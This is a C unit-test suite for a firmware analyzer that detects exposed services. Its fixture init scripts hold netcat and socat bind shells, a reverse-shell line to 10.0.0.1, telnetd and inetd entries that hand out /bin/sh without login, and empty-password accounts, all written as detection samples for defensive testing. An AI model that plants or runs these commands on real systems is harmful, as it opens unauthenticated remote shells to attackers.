/* check_exposure.c: the exposure model of the services analyzer
 * (src/checks/services/daemon_model.c, exposure_eval.c, exposure_login.c,
 * exposure.c) through the shipped rules/services.rules and
 * rules/data/daemons.txt, on trees laid out as real images are: BusyBox as
 * an ELF file with applet links, inittab -> rcS -> S?? scripts, OpenWrt's
 * procd telnet script with /bin/login.sh, the image's own shadow file. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "testutil.h"
#include "checks/services/daemon_model.h"
#include "engine/analyzer.h"

#define ELF "\x7f" "ELF\x01\x01\x01"

typedef struct fx { fw_ruleset *rs; fw_tree *t; fw_ns *ns; fw_report *rep; } fx;

static void fx_init(fx *f)
{
    f->rs = tu_ruleset_empty();
    fw_error err = { 0 };
    ck_assert_msg(fw_ruleset_load_file(f->rs, RULES_DIR "/services.rules", &err) == FW_OK,
                  "%s", err.msg);
    f->t = fw_tree_new();
    f->ns = fw_tree_add_ns(f->t, "", 0);
    f->rep = NULL;
}

static void fx_run(fx *f) { f->rep = tu_run_checks(f->rs, f->t); }

static void fx_free(fx *f)
{
    fw_report_free(&f->rep);
    fw_tree_free(&f->t);
    fw_ruleset_free(&f->rs);
}

/* BusyBox as a real image has it, with the applets the tests start. */
static void busybox(fx *f)
{
    static const char *const applets[][2] = {
        { "/bin/sh", "busybox" }, { "/bin/ash", "busybox" }, { "/sbin/init", "../bin/busybox" },
        { "/sbin/getty", "../bin/busybox" }, { "/usr/sbin/telnetd", "../../bin/busybox" },
        { "/usr/sbin/httpd", "../../bin/busybox" }, { "/usr/sbin/ftpd", "../../bin/busybox" },
        { "/usr/sbin/tftpd", "../../bin/busybox" }, { "/usr/bin/nc", "../../bin/busybox" },
        { "/usr/bin/udpsvd", "../../bin/busybox" }, { "/usr/bin/tcpsvd", "../../bin/busybox" },
        { "/bin/login", "busybox" },
    };
    tu_add_file(f->t, f->ns, "/bin/busybox", ELF "busybox");
    for (size_t i = 0; i < sizeof applets / sizeof applets[0]; i++)
        tu_add_symlink(f->t, f->ns, applets[i][0], applets[i][1]);
    tu_add_file(f->t, f->ns, "/etc/inittab", "::sysinit:/etc/init.d/rcS\n"
                "::shutdown:/bin/umount -a -r\n");
    tu_add_file(f->t, f->ns, "/etc/init.d/rcS", "#!/bin/sh\nmount -a\n"
                "for i in /etc/init.d/S??* ; do\n  [ ! -f \"$i\" ] && continue\n"
                "  $i start\ndone\n");
    tu_add_file(f->t, f->ns, "/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"
                "nobody:*:65534:65534:nobody:/var:/bin/false\n");
    tu_add_file(f->t, f->ns, "/etc/shadow", "root:$1$Xy$Qa9Hq0yZ8oQfIuoE0Cmv1.:18000:0:99999:7:::\n");
}

static const fw_inventory *listeners(const fx *f)
{
    return fw_report_find_inventory(f->rep, "listeners");
}

static int col(const fw_inventory *inv, const char *name)
{
    for (size_t i = 0; i < inv->n_columns; i++)
        if (strcmp(inv->columns[i], name) == 0)
            return (int)i;
    ck_abort_msg("no column %s", name);
    return -1;
}

/* The listeners row of service name, or NULL. */
static char **lrow(const fx *f, const char *name)
{
    const fw_inventory *inv = listeners(f);
    if (!inv)
        return NULL;
    for (size_t i = 0; i < inv->n_rows; i++)
        if (strcmp(inv->rows[i][col(inv, "service")], name) == 0)
            return inv->rows[i];
    return NULL;
}

static const char *lcell(const fx *f, char **rw, const char *name)
{
    return rw[col(listeners(f), name)];
}

static const fw_finding *only(const fx *f, const char *rule)
{
    ck_assert_uint_eq(tu_count(f->rep, rule), 1);
    return tu_get(f->rep, rule, 0);
}

/* ---- shells without login ---------------------------------------------- */

START_TEST(busybox_telnetd_shell_from_s_script)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/etc/init.d/S50telnet", "#!/bin/sh\ncase \"$1\" in\n"
                "  start)\n    telnetd -p 2323 -l /bin/sh\n    ;;\nesac\n");
    fx_run(&f);
    const fw_finding *x = only(&f, "shell-listener-without-login");
    ck_assert_str_eq(x->path, "/etc/init.d/S50telnet");
    ck_assert_uint_eq(x->line, 4);
    ck_assert(tu_names_req(x, "MO.1"));
    ck_assert_ptr_nonnull(strstr(x->message, "tcp/2323"));
    ck_assert_ptr_nonnull(strstr(x->message, "/etc/inittab:1 -> /etc/init.d/rcS:5 -> /etc/init.d/S50telnet:4"));
    char **rw = lrow(&f, "telnetd");
    ck_assert_ptr_nonnull(rw);
    ck_assert_str_eq(lcell(&f, rw, "port"), "2323");
    ck_assert_str_eq(lcell(&f, rw, "bind"), "any");
    ck_assert_str_eq(lcell(&f, rw, "shell"), "/bin/sh");
    ck_assert_str_eq(lcell(&f, rw, "tls"), "no");
    /* a clear-text login daemon too, and nothing else */
    ck_assert_uint_eq(tu_count(f.rep, "telnetd-started"), 1);
    ck_assert_uint_eq(tu_count(f.rep, "empty-password-login"), 0);
    fx_free(&f);
}
END_TEST

START_TEST(netcat_and_socat_listeners)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/usr/bin/socat", ELF);
    tu_add_file(f.t, f.ns, "/etc/init.d/S90debug", "#!/bin/sh\n"
                "# nc -ll -p 23 -e /bin/sh &\n"
                "nc -ll -p 4444 -e /bin/sh &\n"
                "nc -e /bin/sh 10.0.0.1 9001 &\n"                 /* a client: not a listener */
                "socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/ash,pty,stderr &\n"
                "socat TCP-LISTEN:8888,bind=127.0.0.1,fork EXEC:/bin/sh &\n");  /* loopback */
    fx_run(&f);
    ck_assert_uint_eq(tu_count(f.rep, "shell-listener-without-login"), 2);
    const fw_finding *a = tu_get(f.rep, "shell-listener-without-login", 0);
    const fw_finding *b = tu_get(f.rep, "shell-listener-without-login", 1);
    uint64_t la = a->line < b->line ? a->line : b->line;
    uint64_t lb = a->line < b->line ? b->line : a->line;
    ck_assert_uint_eq(la, 3);
    ck_assert_uint_eq(lb, 5);
    /* the loopback socat is listed, not judged */
    const fw_inventory *inv = listeners(&f);
    int seen_loop = 0;
    for (size_t i = 0; i < inv->n_rows; i++)
        if (strcmp(inv->rows[i][col(inv, "bind")], "127.0.0.1") == 0)
            seen_loop = 1;
    ck_assert(seen_loop);
    ck_assert_uint_eq(tu_count(f.rep, "unknown-listener"), 0);
    fx_free(&f);
}
END_TEST

/* OpenWrt's stock /bin/login.sh runs a shell only while root has no
 * password: the image's own shadow decides. */
static void openwrt_telnet(fx *f, const char *shadow)
{
    tu_add_file(f->t, f->ns, "/bin/busybox", ELF "busybox");
    tu_add_symlink(f->t, f->ns, "/usr/sbin/telnetd", "../../bin/busybox");
    tu_add_symlink(f->t, f->ns, "/bin/ash", "busybox");
    tu_add_file(f->t, f->ns, "/etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n");
    tu_add_file(f->t, f->ns, "/etc/init.d/telnet", "#!/bin/sh /etc/rc.common\nSTART=50\n"
                "USE_PROCD=1\nstart_service() {\n\tprocd_open_instance\n"
                "\tprocd_set_param command /usr/sbin/telnetd -F -l /bin/login.sh\n"
                "\tprocd_close_instance\n}\n");
    tu_add_symlink(f->t, f->ns, "/etc/rc.d/S50telnet", "../init.d/telnet");
    tu_add_file(f->t, f->ns, "/bin/login.sh", "#!/bin/sh\n# Copyright (C) 2006-2011 OpenWrt.org\n\n"
                "if ( ! grep -qsE '^root:[!x]?:' /etc/shadow || \\\n"
                "     ! grep -qsE '^root:[!x]?:' /etc/passwd ) && \\\n"
                "   [ -z \"$FAILSAFE\" ]\nthen\n\techo \"Login failed.\"\n\texit 0\nelse\n"
                "cat << EOF\n === IMPORTANT ===\nEOF\nfi\n\nexec /bin/ash --login\n");
    tu_add_file(f->t, f->ns, "/etc/passwd", "root:x:0:0:root:/root:/bin/ash\n");
    tu_add_file(f->t, f->ns, "/etc/shadow", shadow);
}

START_TEST(openwrt_login_sh_root_without_password)
{
    fx f;
    fx_init(&f);
    openwrt_telnet(&f, "root::0:0:99999:7:::\n");
    fx_run(&f);
    const fw_finding *x = only(&f, "shell-listener-without-login");
    ck_assert_str_eq(x->path, "/etc/init.d/telnet");
    ck_assert_uint_eq(x->line, 6);
    ck_assert_ptr_nonnull(strstr(x->message, "/bin/login.sh"));
    ck_assert_ptr_nonnull(strstr(x->message, "/etc/shadow:1"));
    fx_free(&f);
}
END_TEST

START_TEST(openwrt_login_sh_root_with_password)
{
    fx f;
    fx_init(&f);
    openwrt_telnet(&f, "root:$1$Xy$Qa9Hq0yZ8oQfIuoE0Cmv1.:0:0:99999:7:::\n");
    fx_run(&f);
    ck_assert_uint_eq(tu_count(f.rep, "shell-listener-without-login"), 0);
    ck_assert_uint_eq(tu_count(f.rep, "empty-password-login"), 0);
    ck_assert_uint_eq(tu_count(f.rep, "telnetd-started"), 1);
    fx_free(&f);
}
END_TEST

/* ---- authentication off, anonymous writes ----------------------------- */

START_TEST(dropbear_blank_passwords_and_sshd_option)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/usr/sbin/dropbear", ELF);
    tu_add_file(f.t, f.ns, "/etc/init.d/S50dropbear", "#!/bin/sh\n"
                "DROPBEAR_ARGS=\"-B -p 2222\"\n"
                "start() {\n\t/usr/sbin/dropbear $DROPBEAR_ARGS -r /etc/dropbear/key\n}\n"
                "case \"$1\" in\n  start) start ;;\nesac\n");
    fx_run(&f);
    const fw_finding *x = only(&f, "listener-auth-off");
    ck_assert_str_eq(x->path, "/etc/init.d/S50dropbear");
    ck_assert_uint_eq(x->line, 4);
    ck_assert(tu_names_req(x, "MO.4"));
    ck_assert_ptr_nonnull(strstr(x->message, "-B"));
    char **rw = lrow(&f, "dropbear");
    ck_assert_ptr_nonnull(rw);
    ck_assert_str_eq(lcell(&f, rw, "port"), "2222");
    ck_assert_str_eq(lcell(&f, rw, "tls"), "yes");
    fx_free(&f);
}
END_TEST

START_TEST(tftp_uploads_and_ftp_anonymous)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/usr/sbin/in.tftpd", ELF);
    tu_add_file(f.t, f.ns, "/etc/init.d/S60files", "#!/bin/sh\n"
                "/usr/sbin/in.tftpd -l -c -s /var/tftp\n"
                "ftpd -w -A /mnt/usb &\n"
                "ftpd -w /home &\n");           /* uploads after a login: not anonymous */
    fx_run(&f);
    ck_assert_uint_eq(tu_count(f.rep, "anonymous-write-server"), 2);
    ck_assert_uint_eq(tu_count(f.rep, "listener-auth-off"), 1);   /* ftpd -A */
    ck_assert_uint_eq(tu_count(f.rep, "tftpd-started"), 1);
    /* two starts of ftpd in one script: one "ftpd is started" fact, both lines */
    ck_assert_uint_eq(tu_count(f.rep, "ftpd-started"), 1);
    ck_assert_str_eq(tu_detail(tu_get(f.rep, "ftpd-started", 0), "lines"), "3, 4");
    for (size_t i = 0; i < 2; i++) {
        const fw_finding *x = tu_get(f.rep, "anonymous-write-server", i);
        ck_assert(x->line == 2 || x->line == 3);
    }
    char **rw = lrow(&f, "in.tftpd");
    ck_assert_str_eq(lcell(&f, rw, "proto"), "udp");
    ck_assert_str_eq(lcell(&f, rw, "port"), "69");
    fx_free(&f);
}
END_TEST

/* ---- debug agents, unknown listeners, plain HTTP ---------------------- */

START_TEST(debug_agents_and_unknown_listeners)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/usr/bin/gdbserver", ELF);
    tu_add_file(f.t, f.ns, "/usr/bin/vendor_diag", ELF);
    tu_add_file(f.t, f.ns, "/usr/bin/cloud_client", ELF);
    tu_add_file(f.t, f.ns, "/etc/init.d/S99vendor", "#!/bin/sh\n"
                "/usr/bin/gdbserver --multi :2345 &\n"
                "/usr/bin/vendor_diag -p 9527 -d &\n"
                "/usr/bin/cloud_client -c /etc/cloud.conf &\n"      /* no port: not judged */
                "/usr/bin/gdbserver /dev/ttyS1 /usr/bin/app &\n");  /* serial line */
    fx_run(&f);
    const fw_finding *x = only(&f, "debug-agent-started");
    ck_assert_uint_eq(x->line, 2);
    ck_assert(tu_names_req(x, "MO.1"));
    x = only(&f, "unknown-listener");
    ck_assert_uint_eq(x->line, 3);
    ck_assert_ptr_nonnull(strstr(x->message, "-p 9527"));
    fx_free(&f);
}
END_TEST

START_TEST(plain_http_for_every_web_server)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/usr/sbin/mini_httpd", ELF);
    tu_add_file(f.t, f.ns, "/usr/sbin/thttpd", ELF);
    tu_add_file(f.t, f.ns, "/etc/init.d/S80web", "#!/bin/sh\n"
                "httpd -h /www -c /etc/httpd.conf\n"
                "/usr/sbin/mini_httpd -S -E /etc/ssl/cert.pem -p 443 -d /www\n"
                "/usr/sbin/thttpd -p 8080 -d /www/cam -u root\n"
                "httpd -p 127.0.0.1:8081 -h /www/local\n");
    fx_run(&f);
    ck_assert_uint_eq(tu_count(f.rep, "plain-http-listener"), 2);
    for (size_t i = 0; i < 2; i++) {
        const fw_finding *x = tu_get(f.rep, "plain-http-listener", i);
        ck_assert(x->line == 2 || x->line == 4);
        ck_assert(tu_names_req(x, "MO.5"));
    }
    fx_free(&f);
}
END_TEST

/* ---- empty passwords behind a login prompt ------------------------------ */

START_TEST(serial_getty_and_empty_password)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/etc/inittab", "::sysinit:/etc/init.d/rcS\n"
                "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n");
    tu_add_file(f.t, f.ns, "/etc/shadow", "root::18000:0:99999:7:::\n");
    fx_run(&f);
    const fw_finding *x = only(&f, "empty-password-login");
    ck_assert_str_eq(x->path, "/etc/inittab");
    ck_assert_uint_eq(x->line, 2);
    ck_assert_ptr_nonnull(strstr(x->message, "root (/etc/shadow:1)"));
    ck_assert_ptr_nonnull(strstr(x->message, "ttyS0"));
    ck_assert_uint_eq(tu_count(f.rep, "serial-console-shell"), 0);
    fx_free(&f);
}
END_TEST

START_TEST(locked_and_nologin_accounts_are_not_empty)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_file(f.t, f.ns, "/etc/inittab", "::sysinit:/etc/init.d/rcS\n"
                "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
                "::respawn:/usr/sbin/telnetd -F\n");
    tu_add_file(f.t, f.ns, "/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"
                "daemon::1:1:daemon:/usr/sbin:/bin/false\n"
                "ftp::55:55:ftp:/home/ftp:/sbin/nologin\n");
    tu_add_file(f.t, f.ns, "/etc/shadow", "root:!:18000:0:99999:7:::\n");
    fx_run(&f);
    ck_assert_uint_eq(tu_count(f.rep, "empty-password-login"), 0);
    ck_assert_uint_eq(tu_count(f.rep, "telnetd-started"), 1);
    fx_free(&f);
}
END_TEST

/* ---- super-servers: the socket is theirs, the program is the service ---- */

START_TEST(inetd_and_tcpsvd_services)
{
    fx f;
    fx_init(&f);
    busybox(&f);
    tu_add_symlink(f.t, f.ns, "/usr/sbin/inetd", "../../bin/busybox");
    tu_add_file(f.t, f.ns, "/etc/init.d/S40net", "#!/bin/sh\n/usr/sbin/inetd /etc/inetd.conf\n"
                "tcpsvd -vE 0.0.0.0 21 ftpd -w -A /mnt &\n"
                "tcpsvd 127.0.0.1 2121 ftpd -w -A / &\n");
    tu_add_file(f.t, f.ns, "/etc/inetd.conf",
                "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd -l /bin/sh\n"
                "9999 stream tcp nowait root /bin/sh sh -i\n");
    fx_run(&f);
    const fw_finding *x = only(&f, "shell-listener-without-login");
    ck_assert_str_eq(x->path, "/etc/inetd.conf");
    ck_assert_uint_eq(x->line, 2);
    ck_assert_ptr_nonnull(strstr(x->message, "tcp/9999"));
    /* ftpd behind tcpsvd on every address: anonymous writes; the loopback one is listed only */
    x = only(&f, "anonymous-write-server");
    ck_assert_str_eq(x->path, "/etc/init.d/S40net");
    ck_assert_uint_eq(x->line, 3);
    ck_assert_ptr_nonnull(strstr(x->message, "tcp/21"));
    char **rw = lrow(&f, "ftpd");
    ck_assert_str_eq(lcell(&f, rw, "port"), "21");
    fx_free(&f);
}
END_TEST

START_TEST(systemd_sh_c_socat)
{
    fx f;
    fx_init(&f);
    tu_add_file(f.t, f.ns, "/usr/bin/socat", ELF);
    tu_add_file(f.t, f.ns, "/bin/bash", ELF);
    tu_add_file(f.t, f.ns, "/bin/sh", ELF);
    tu_add_file(f.t, f.ns, "/lib/systemd/system/debug-shell.service", "[Unit]\n"
                "Description=factory debug\n[Service]\n"
                "ExecStart=/bin/sh -c 'exec /usr/bin/socat TCP4-LISTEN:5555,fork EXEC:/bin/bash'\n"
                "[Install]\nWantedBy=multi-user.target\n");
    tu_add_symlink(f.t, f.ns, "/etc/systemd/system/multi-user.target.wants/debug-shell.service",
                   "/lib/systemd/system/debug-shell.service");
    fx_run(&f);
    const fw_finding *x = only(&f, "shell-listener-without-login");
    ck_assert_ptr_nonnull(strstr(x->path, "debug-shell.service"));
    ck_assert_uint_eq(x->line, 4);
    ck_assert_ptr_nonnull(strstr(x->message, "tcp/5555"));
    fx_free(&f);
}
END_TEST

/* ---- the model itself ---------------------------------------------------- */

START_TEST(model_rejects_typos)
{
    fw_daemon_model m;
    fw_error err = { 0 };
    const char *bad = "daemon x kind=web\nopt -p prot\n";
    ck_assert_int_eq(fw_daemon_model_parse(&m, "t.txt", bad, strlen(bad), &err), FW_ERULE);
    ck_assert_ptr_nonnull(strstr(err.msg, "t.txt:2"));
    ck_assert_ptr_nonnull(strstr(err.msg, "prot"));
    const char *orphan = "opt -p port\n";
    ck_assert_int_eq(fw_daemon_model_parse(&m, "t.txt", orphan, strlen(orphan), &err), FW_ERULE);
    const char *good = "daemon a,b kind=web port=80\nopt -p port\n";
    ck_assert_int_eq(fw_daemon_model_parse(&m, "t.txt", good, strlen(good), &err), FW_OK);
    ck_assert_ptr_nonnull(fw_daemon_model_find(&m, "b"));
    ck_assert_ptr_null(fw_daemon_model_find(&m, "c"));
    fw_daemon_model_release(&m);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("exposure");
    TCase *tc = tcase_create("exposure");
    tcase_add_test(tc, busybox_telnetd_shell_from_s_script);
    tcase_add_test(tc, netcat_and_socat_listeners);
    tcase_add_test(tc, openwrt_login_sh_root_without_password);
    tcase_add_test(tc, openwrt_login_sh_root_with_password);
    tcase_add_test(tc, dropbear_blank_passwords_and_sshd_option);
    tcase_add_test(tc, tftp_uploads_and_ftp_anonymous);
    tcase_add_test(tc, debug_agents_and_unknown_listeners);
    tcase_add_test(tc, plain_http_for_every_web_server);
    tcase_add_test(tc, serial_getty_and_empty_password);
    tcase_add_test(tc, locked_and_nologin_accounts_are_not_empty);
    tcase_add_test(tc, inetd_and_tcpsvd_services);
    tcase_add_test(tc, systemd_sh_c_socat);
    tcase_add_test(tc, model_rejects_typos);
    suite_add_tcase(s, tc);
    return tu_run_suite(s);
}
